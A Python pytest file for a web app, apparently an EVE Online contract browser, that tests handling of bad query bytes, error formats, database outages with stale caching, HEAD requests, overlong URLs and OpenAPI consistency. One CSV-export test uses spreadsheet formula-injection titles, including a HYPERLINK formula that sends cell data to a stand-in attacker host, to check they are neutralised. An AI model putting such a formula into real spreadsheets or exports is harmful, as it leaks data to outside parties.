"""Issue #14's faults, each as a test: bad bytes, error formats, the database going away,
HEAD, overlong URLs, and the OpenAPI document agreeing with behaviour.

Every test runs on both backends: the cache (memory or Redis) and the database
(SQLite or PostgreSQL) come from the environment; "the database is down" is a
PostgreSQL URL nothing listens on, which fails the same way on either run.
"""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator, Iterator
from typing import Any

import httpx
import pytest
from asgi_lifespan import LifespanManager

from hangar_bay.accounts.sessions import SESSION_COOKIE
from hangar_bay.accounts.testing import log_in
from hangar_bay.app import create_app
from hangar_bay.contracts.caching import GENERATION_KEY
from hangar_bay.contracts.schemas import ContractFilters
from hangar_bay.core.cache import MemoryCache, ResilientCache
from hangar_bay.core.database import Database
from hangar_bay.settings import Settings
from tests.contracts.factories import RIFTER, Item, add, build_contract, seed_universe

DEAD_POSTGRES = "postgresql+asyncpg://postgres@127.0.0.1:1/none"
BROWSER = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}


async def _client(
    settings: Settings, database: Database, cache: ResilientCache
) -> AsyncIterator[httpx.AsyncClient]:
    app = create_app(settings, database=database, cache=cache)
    async with LifespanManager(app) as manager:
        transport = httpx.ASGITransport(app=manager.app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
            yield http


@pytest.fixture
async def dead_client(
    settings: Settings, cache: ResilientCache
) -> AsyncIterator[httpx.AsyncClient]:
    """The app with its database unreachable (and a working cache)."""
    dead = Database.from_url(DEAD_POSTGRES)
    try:
        async for http in _client(settings, dead, cache):
            yield http
    finally:
        await dead.dispose()


@pytest.fixture
async def seeded(database: Database) -> Database:
    await seed_universe(database)
    await add(database, build_contract(title="A Rifter", items=[Item(RIFTER)], price=5e6))
    return database


# --- fault 1: NUL and control characters ------------------------------------------------


@pytest.mark.parametrize(
    "value", ["%00", "a%00b", "%01", "rifter%1F", "%7F", "a%0Ab", "%C2%85", "%E2%80%A8"]
)
async def test_control_characters_in_the_api_are_a_422_naming_the_parameter(
    client: httpx.AsyncClient, seeded: Database, value: str
) -> None:
    response = await client.get(f"/api/v1/contracts?q={value}")
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["error"] == "validation_error"
    assert body["detail"][0]["loc"] == ["query", "q"]
    assert "control characters" in body["detail"][0]["msg"]


async def test_control_characters_anywhere_in_the_query_are_refused(
    client: httpx.AsyncClient, seeded: Database
) -> None:
    # Parameters no schema declares are guarded too, and a bad name is not echoed back.
    response = await client.get("/api/v1/contracts?sort=price&note=x%00y&b%00d=1")
    assert response.status_code == 422
    names = [item["loc"][1] for item in response.json()["detail"]]
    assert names == ["note", "b?d"]


async def test_control_characters_on_a_page_are_a_friendly_html_page(
    client: httpx.AsyncClient, seeded: Database
) -> None:
    response = await client.get("/?q=%00")
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("text/html")
    assert "q: Value must not contain control characters" in response.text
    assert "\x00" not in response.text


@pytest.mark.parametrize(
    "value",
    ["%FF%FE", "%FF", "caf%C3", "%C3%28", "%C0%AF", "%ED%A0%80", "rifter%80", "%F4%90%80%80"],
)
@pytest.mark.parametrize(
    "path", ["/api/v1/contracts", "/api/v1/contracts.csv", "/feeds/contracts.atom"]
)
async def test_bytes_that_are_not_utf8_are_a_422_naming_the_parameter(
    client: httpx.AsyncClient, seeded: Database, path: str, value: str
) -> None:
    # Not decoded to U+FFFD and searched for: refused, naming the parameter.
    response = await client.get(f"{path}?sort=price&q={value}")
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["error"] == "validation_error"
    assert [item["loc"] for item in body["detail"]] == [["query", "q"]]
    assert "not valid UTF-8" in body["detail"][0]["msg"]
    assert response.headers["cache-control"] == "no-store"


async def test_a_parameter_name_that_is_not_utf8_is_refused_too(
    client: httpx.AsyncClient, seeded: Database
) -> None:
    response = await client.get("/api/v1/contracts?n%FFte=1&sort=price&x=%E9t%E9")
    assert response.status_code == 422
    names = [item["loc"][1] for item in response.json()["detail"]]
    assert names == ["n\ufffdte", "x"]


async def test_bytes_that_are_not_utf8_on_a_page_are_a_friendly_html_page(
    client: httpx.AsyncClient, seeded: Database
) -> None:
    response = await client.get("/?q=%FF%FE")
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("text/html")
    assert "q: Value must be UTF-8 text" in response.text
    assert "\ufffd" not in response.text


@pytest.mark.parametrize(
    "query",
    [
        "q=caf%C3%A9",  # é
        "q=%D0%A0%D0%B8%D1%84%D1%82%D0%B5%D1%80",  # Рифтер
        "q=%E2%98%83+%F0%9F%9A%80",  # ☃ and a four-byte rocket
        "q=A+%52ifter",  # an escaped ASCII byte
    ],
)
async def test_valid_utf8_still_searches(
    client: httpx.AsyncClient, seeded: Database, query: str
) -> None:
    api = await client.get(f"/api/v1/contracts?{query}")
    assert api.status_code == 200, api.text
    page = await client.get(f"/?{query}")
    assert page.status_code == 200
    feed = await client.get(f"/feeds/contracts.atom?{query}")
    assert feed.status_code == 200


async def test_a_utf8_search_finds_its_contract(
    client: httpx.AsyncClient, database: Database
) -> None:
    await seed_universe(database)
    await add(database, build_contract(title="Café Рифтер", items=[Item(RIFTER)], price=5e6))
    found = await client.get("/api/v1/contracts?q=caf%C3%A9+%D0%A0%D0%B8%D1%84")
    assert found.status_code == 200
    assert found.json()["total"] == 1


def test_the_utf8_guard_reads_raw_bytes_and_escapes_alike() -> None:
    from hangar_bay.core.text import invalid_utf8_fields

    assert invalid_utf8_fields(b"q=rifter&sort=price&x=%41%7E") == []
    assert invalid_utf8_fields("q=café&r=Рифтер".encode()) == []
    assert invalid_utf8_fields(b"q=caf\xe9") == ["q"]  # Latin-1 sent raw
    assert invalid_utf8_fields(b"q=caf%C3\xa9") == []  # half escaped, half raw: still é
    assert invalid_utf8_fields(b"a=%FF&a=%FE&%FF%01=1") == ["a", "\ufffd?"]


async def test_safe_text_types_refuse_controls_in_models() -> None:
    from pydantic import BaseModel, ValidationError

    from hangar_bay.core.text import SafeMultilineText, SafeText

    class Form(BaseModel):
        name: SafeText
        note: SafeMultilineText

    assert Form(name="Drake", note="line one\nline two\tend").note.endswith("end")
    with pytest.raises(ValidationError) as caught:
        Form(name="Dra\x00ke", note="x\x07")
    assert {err["loc"][0] for err in caught.value.errors()} == {"name", "note"}
    # And the schema says so, for generated clients and schemathesis.
    assert "pattern" in Form.model_json_schema()["properties"]["name"]


async def test_unicode_text_still_searches(client: httpx.AsyncClient, seeded: Database) -> None:
    response = await client.get("/api/v1/contracts", params={"q": "Ræven ☃ ünïcode"})
    assert response.status_code == 200


# --- fault 3: HTML errors for pages, JSON for the API ---------------------------------------


async def test_unknown_path_from_a_browser_is_an_html_404(client: httpx.AsyncClient) -> None:
    page = await client.get("/no/such/page", headers=BROWSER)
    assert page.status_code == 404
    assert page.headers["content-type"].startswith("text/html")
    assert "Page not found" in page.text
    program = await client.get("/no/such/page")
    assert program.status_code == 404
    assert program.json()["error"] == "not_found"


async def test_api_errors_stay_json_even_for_a_browser(client: httpx.AsyncClient) -> None:
    response = await client.get("/api/v1/no-such-thing", headers=BROWSER)
    assert response.status_code == 404
    assert response.json()["error"] == "not_found"
    invalid = await client.get("/api/v1/contracts?size=0", headers=BROWSER)
    assert invalid.status_code == 422
    assert invalid.json()["detail"][0]["loc"] == ["query", "size"]


def _uncacheable_page(response: httpx.Response) -> None:
    """An HTML error page no shared cache keeps, and one keyed by cookie if kept."""
    assert response.headers["content-type"].startswith("text/html")
    assert response.headers["cache-control"] == "no-store"
    assert [part.strip() for part in response.headers["vary"].split(",")].count("Cookie") == 1


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/contracts/9223372036854775807", 404),  # a page route's own error page
        ("/contracts/abc", 422),  # a page's bad path id
        ("/?size=999", 422),  # a page's validation error
        ("/no/such/page", 404),  # the 404 handler's page, for a browser
        ("/?q=%00", 422),  # the edge's refusal
    ],
)
async def test_a_visitor_s_error_page_is_not_cacheable_and_varies_by_cookie(
    client: httpx.AsyncClient, seeded: Database, path: str, status: int
) -> None:
    response = await client.get(path, headers=BROWSER)
    assert response.status_code == status
    _uncacheable_page(response)


@pytest.mark.parametrize(
    "path",
    ["/api/v1/contracts/9223372036854775807", "/api/v1/contracts?size=999", "/no/such/thing"],
)
async def test_json_errors_are_not_cacheable(
    client: httpx.AsyncClient, seeded: Database, path: str
) -> None:
    response = await client.get(path)
    assert response.status_code in (404, 422)
    assert response.headers["content-type"] == "application/json"
    assert response.headers["cache-control"] == "no-store"


# --- fault 4: the database down ---------------------------------------------------------


async def test_database_down_is_a_503_with_retry_after_in_the_error_format(
    dead_client: httpx.AsyncClient,
) -> None:
    response = await dead_client.get("/api/v1/contracts")
    assert response.status_code == 503
    assert response.headers["retry-after"] == "5"
    assert response.headers["cache-control"] == "no-store"
    assert response.json()["error"] == "database_unavailable"
    detail = await dead_client.get("/api/v1/contracts/190000001")
    assert detail.status_code == 503


async def test_database_down_on_a_page_is_a_friendly_503(dead_client: httpx.AsyncClient) -> None:
    # A pilot's session cannot be read: the page shows a visitor's header, never a 500.
    dead_client.cookies.set(SESSION_COOKIE, "a-pilot-s-session")
    response = await dead_client.get("/")
    assert "Log in with EVE Online" in response.text
    assert response.status_code == 503
    assert response.headers["content-type"].startswith("text/html")
    assert response.headers["retry-after"] == "5"
    assert "briefly unavailable" in response.text
    _uncacheable_page(response)
    contract = await dead_client.get("/contracts/190000001")
    assert contract.status_code == 503
    _uncacheable_page(contract)


async def test_last_good_answer_is_served_stale_while_the_database_is_down(
    settings: Settings, seeded: Database, cache: ResilientCache
) -> None:
    async for http in _client(settings, seeded, cache):
        fresh_api = await http.get("/api/v1/contracts?sort=price")
        fresh_page = await http.get("/?sort=price")
        assert fresh_api.status_code == fresh_page.status_code == 200
        assert fresh_api.json()["total"] == 1
    # A sweep finished meanwhile: every cached entry is out of date, and the database
    # goes away before anyone asks again.
    await cache.incr(GENERATION_KEY)
    dead = Database.from_url(DEAD_POSTGRES)
    try:
        async for http in _client(settings, dead, cache):
            api = await http.get("/api/v1/contracts?sort=price")
            assert api.status_code == 200
            assert api.json() == fresh_api.json()
            assert api.headers["warning"] == '110 - "Response is Stale"'
            assert int(api.headers["age"]) >= 0
            page = await http.get("/?sort=price")
            assert page.status_code == 200
            assert "A Rifter" in page.text
            assert "database is briefly unreachable" in page.text
            assert page.headers["warning"].startswith("110")
            # A stale copy is a 200 with its own caching headers, not an error's.
            assert page.headers["cache-control"] == api.headers["cache-control"] == "no-cache"
            # A view nobody asked for before has nothing to fall back on.
            other = await http.get("/api/v1/contracts?sort=-price")
            assert other.status_code == 503
    finally:
        await dead.dispose()


async def test_detail_views_serve_their_last_good_copy_while_the_database_is_down(
    settings: Settings, seeded: Database, cache: ResilientCache
) -> None:
    pilot = await log_in(seeded, character_id=91000001, character_name="Pilot Alpha")
    views = {}
    async for http in _client(settings, seeded, cache):
        cid = (await http.get("/api/v1/contracts")).json()["items"][0]["contract_id"]
        urls = [
            f"/contracts/{cid}",
            f"/api/v1/contracts/{cid}",
            f"/types/{RIFTER}",
            f"/api/v1/types/{RIFTER}/price-history",
        ]
        # The contract page is first seen by a pilot: the copy kept is still a visitor's.
        http.cookies.set(SESSION_COOKIE, pilot.cookie)
        assert "Pilot Alpha" in (await http.get(urls[0])).text
        http.cookies.delete(SESSION_COOKIE)
        for url in urls:
            views[url] = await http.get(url)
            assert views[url].status_code == 200, url
    # A sweep finished meanwhile (every cached entry is out of date), then the database
    # went away.
    await cache.incr(GENERATION_KEY)
    dead = Database.from_url(DEAD_POSTGRES)
    try:
        async for http in _client(settings, dead, cache):
            for url in urls:
                answer = await http.get(url)
                assert answer.status_code == 200, url
                assert answer.headers["warning"] == '110 - "Response is Stale"', url
                assert int(answer.headers["age"]) >= 0
                assert answer.headers["retry-after"] == "5"
                assert answer.headers["etag"] == views[url].headers["etag"]
                if url.startswith("/api/"):
                    assert answer.headers["content-type"] == "application/json"
                    assert answer.json() == views[url].json()
                else:
                    assert answer.headers["content-type"].startswith("text/html")
                    assert "database is briefly unreachable" in answer.text
            page = await http.get(urls[0])
            assert "A Rifter" in page.text
            assert "Log in to watch Rifter" in page.text
            # The pilot, whose session cannot be read now, gets the shared copy too.
            http.cookies.set(SESSION_COOKIE, pilot.cookie)
            theirs = await http.get(urls[0])
            assert theirs.status_code == 200
            assert theirs.headers["warning"].startswith("110")
            assert "Pilot Alpha" not in theirs.text
            assert pilot.csrf_token not in theirs.text
            assert "csrf_token" not in theirs.text
    finally:
        await dead.dispose()


@pytest.mark.parametrize(
    ("path", "html"),
    [
        ("/contracts/190000001", True),
        ("/api/v1/contracts/190000001", False),
        (f"/types/{RIFTER}", True),
        (f"/api/v1/types/{RIFTER}/price-history", False),
    ],
)
async def test_a_detail_view_without_a_copy_is_a_503_in_its_format(
    dead_client: httpx.AsyncClient, path: str, html: bool
) -> None:
    response = await dead_client.get(path, headers=BROWSER)
    assert response.status_code == 503
    assert response.headers["retry-after"] == "5"
    assert "warning" not in response.headers
    if html:
        assert response.headers["content-type"].startswith("text/html")
        assert "briefly unavailable" in response.text
    else:
        assert response.json()["error"] == "database_unavailable"


async def test_database_unavailable_is_counted(
    dead_client: httpx.AsyncClient,
) -> None:
    await dead_client.get("/api/v1/contracts")
    metrics = (await dead_client.get("/metrics")).text
    assert 'hangar_database_unavailable_total{outcome="503"} 1.0' in metrics


# --- fault 8: HEAD and overlong URLs ----------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/api/v1/contracts", "/health", "/api/v1/taxonomy"])
async def test_head_is_a_bodiless_200(
    client: httpx.AsyncClient, seeded: Database, path: str
) -> None:
    get = await client.get(path)
    head = await client.head(path)
    assert head.status_code == 200
    assert head.content == b""
    assert head.headers["content-type"] == get.headers["content-type"]
    assert head.headers.get("etag") == get.headers.get("etag")


async def test_an_overlong_url_is_a_414_in_the_error_format(client: httpx.AsyncClient) -> None:
    response = await client.get("/api/v1/contracts", params={"q": "a" * 20_000})
    assert response.status_code == 414
    assert response.json()["error"] == "uri_too_long"
    page = await client.get("/", params={"q": "a" * 20_000})
    assert page.status_code == 414
    assert page.headers["content-type"].startswith("text/html")


async def test_the_server_answers_a_url_its_parser_refuses_with_414(
    settings: Settings, database: Database, cache: ResilientCache
) -> None:
    # 100 KB is past the HTTP parser's own limit: the app never sees the request.
    import uvicorn

    from hangar_bay.core.server import protocol_for

    app = create_app(settings, database=database, cache=cache)
    config = uvicorn.Config(
        app, host="127.0.0.1", port=0, http=protocol_for(8192), log_config=None, lifespan="off"
    )
    server = uvicorn.Server(config)
    serving = asyncio.create_task(server.serve())
    try:
        while not server.started:
            await asyncio.sleep(0.01)
        port = server.servers[0].sockets[0].getsockname()[1]
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"GET /?q=" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 10)
        writer.close()
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 414")
        assert b"content-type: application/json" in head
        assert b'"uri_too_long"' in body
    finally:
        server.should_exit = True
        await serving


# --- fault 9: schema and behaviour agree ------------------------------------------------


async def test_ranges_the_wrong_way_round_are_empty_not_invalid(
    client: httpx.AsyncClient, seeded: Database
) -> None:
    for query in ("min_price=10&max_price=5", "min_runs=10&max_runs=2"):
        response = await client.get(f"/api/v1/contracts?{query}&ships_only=false")
        assert response.status_code == 200, response.text
        assert response.json()["total"] == 0


async def test_empty_api_parameters_mean_any_and_the_schema_says_so(
    client: httpx.AsyncClient, seeded: Database
) -> None:
    response = await client.get("/api/v1/contracts?sort=&min_price=&ships_only=&type_id=")
    assert response.status_code == 200
    document = (await client.get("/openapi.json")).json()
    parameters = document["paths"]["/api/v1/contracts"]["get"]["parameters"]
    sort = next(p for p in parameters if p["name"] == "sort")["schema"]
    assert {"type": "string", "pattern": "^ *$"} in sort["anyOf"]


async def test_empty_form_fields_on_the_page_still_mean_any(
    client: httpx.AsyncClient, seeded: Database
) -> None:
    # A GET form submits every field; the page keeps reading an empty one as "any".
    response = await client.get("/?q=&sort=&min_price=&security=")
    assert response.status_code == 200


async def test_openapi_documents_the_text_rule(client: httpx.AsyncClient) -> None:
    document = (await client.get("/openapi.json")).json()
    parameters = document["paths"]["/api/v1/contracts"]["get"]["parameters"]
    q = next(p for p in parameters if p["name"] == "q")
    assert "pattern" in str(q["schema"])


def test_filters_accept_ranges_either_way() -> None:
    f = ContractFilters(min_price=10, max_price=5)
    assert (f.min_price, f.max_price) == (10, 5)


async def test_last_good_copies_take_a_bounded_number_of_slots(cache: ResilientCache) -> None:
    from hangar_bay.core import stale

    for n in range(stale.STALE_SLOTS * 3):
        await stale.keep(cache, f"browse:list:v3:{n}", '"e"', b"{}")
    # Each view finds its own copy or nothing, never another view's.
    found = [await stale.recall(cache, f"browse:list:v3:{n}") for n in range(200)]
    assert all(item is None or item[1] == b"{}" for item in found)
    assert await stale.recall(cache, f"browse:list:v3:{stale.STALE_SLOTS * 3 - 1}") is not None
    if isinstance(cache.backend, MemoryCache):
        slots = [k for k in cache.backend._data if k.startswith(stale.STALE_PREFIX)]
        assert len(slots) <= stale.STALE_SLOTS


# --- found by the second round's fresh tester --------------------------------------------


async def test_the_feed_keeps_its_own_last_good_copy_never_the_lists(
    settings: Settings, seeded: Database, cache: ResilientCache
) -> None:
    async for http in _client(settings, seeded, cache):
        fresh = await http.get("/feeds/contracts.atom")
        assert fresh.status_code == 200
        # The list behind the feed, also kept: the feed must not answer with it.
        list_view = ContractFilters(sort="-date_issued", size=50).query_string()
        assert (await http.get(f"/api/v1/contracts?{list_view}")).status_code == 200
    await cache.incr(GENERATION_KEY)
    dead = Database.from_url(DEAD_POSTGRES)
    try:
        async for http in _client(settings, dead, cache):
            feed = await http.get("/feeds/contracts.atom")
            assert feed.status_code == 200
            assert feed.headers["content-type"].startswith("application/atom+xml")
            assert feed.headers["warning"].startswith("110")
            assert feed.content == fresh.content
            # A feed view nobody read before has nothing to fall back on.
            other = await http.get("/feeds/contracts.atom?region_id=10000002")
            assert other.status_code == 503
            assert other.json()["error"] == "database_unavailable"
    finally:
        await dead.dispose()


async def test_a_csv_export_with_the_database_down_is_a_503_not_a_cut_200(
    settings: Settings, seeded: Database, cache: ResilientCache
) -> None:
    async for http in _client(settings, seeded, cache):
        # The list of the same view is cached and kept; the export must not answer with it.
        assert (await http.get("/api/v1/contracts")).status_code == 200
    await cache.incr(GENERATION_KEY)
    dead = Database.from_url(DEAD_POSTGRES)
    try:
        async for http in _client(settings, dead, cache):
            export = await http.get("/api/v1/contracts.csv")
            assert export.status_code == 503
            assert export.headers["retry-after"] == "5"
            assert export.json()["error"] == "database_unavailable"
    finally:
        await dead.dispose()


@pytest.mark.parametrize(
    "title", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
)
async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(
    client: httpx.AsyncClient, database: Database, title: str
) -> None:
    await seed_universe(database)
    await add(database, build_contract(title=title, items=[Item(RIFTER)], price=5e6))
    export = await client.get("/api/v1/contracts.csv")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [row["title"] for row in rows] == ["'" + title]
    # Numbers are left alone, negative ones included.
    assert float(rows[0]["price"]) == 5e6


def _schemas(node: Any) -> Iterator[dict[str, Any]]:
    """Every JSON object in an OpenAPI document, depth first."""
    if isinstance(node, dict):
        yield node
        for value in node.values():
            yield from _schemas(value)
    elif isinstance(node, list):
        for value in node:
            yield from _schemas(value)


async def test_openapi_bounds_are_json_schema_keywords(client: httpx.AsyncClient) -> None:
    """Bounds written as pydantic's ``ge``/``le`` are ignored by JSON Schema: the document
    would allow ids the API refuses (schemathesis: ``/api/v1/contracts/-402``)."""
    document = (await client.get("/openapi.json")).json()
    leaked = [s for s in _schemas(document) if {"ge", "le", "gt", "lt"} & s.keys()]
    assert leaked == []
    for path, name in (
        ("/api/v1/contracts/{contract_id}", "contract_id"),
        ("/api/v1/types/{type_id}/price-history", "type_id"),
        ("/api/v1/me/searches/{search_id}", "search_id"),
    ):
        operation = next(iter(document["paths"][path].values()))
        parameter = next(p for p in operation["parameters"] if p["name"] == name)
        assert parameter["schema"]["minimum"] == 1, path
